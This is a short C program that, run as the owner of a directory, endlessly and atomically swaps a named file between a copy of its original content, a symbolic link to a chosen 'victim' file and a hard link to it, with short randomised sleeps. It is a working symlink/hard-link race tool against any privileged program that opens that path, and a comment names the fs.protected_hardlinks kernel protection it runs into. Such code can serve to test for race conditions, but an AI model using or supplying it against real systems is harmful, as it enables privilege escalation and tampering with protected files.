/* As the owner of FILE's folder: FILE is by turns a file of one's own, a link to VICTIM, a hard link to it, a folder
   behind a link. Ends when it is killed. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **words)
{
    if (count != 3)
        return 2;
    const char *file = words[1], *victim = words[2];
    char own[4096], next[4096], text[65536];
    snprintf(own, sizeof own, "%s.own", file);
    snprintf(next, sizeof next, "%s.next", file);
    int from = open(file, O_RDONLY);
    ssize_t length = from < 0 ? -1 : read(from, text, sizeof text);
    if (length < 0)
        return 1;
    for (unsigned turn = 0;; turn++) {
        unlink(next);
        if (turn % 3 == 0) {
            int to = open(next, O_WRONLY | O_CREAT | O_EXCL, 0644);
            if (to >= 0 && write(to, text, length) == length)
                close(to);
        } else if (turn % 3 == 1) {
            if (symlink(victim, next))
                continue;
        } else if (link(victim, next)) {
            continue; /* fs.protected_hardlinks */
        }
        rename(next, file);
        usleep(turn % 7 * 50);
    }
}
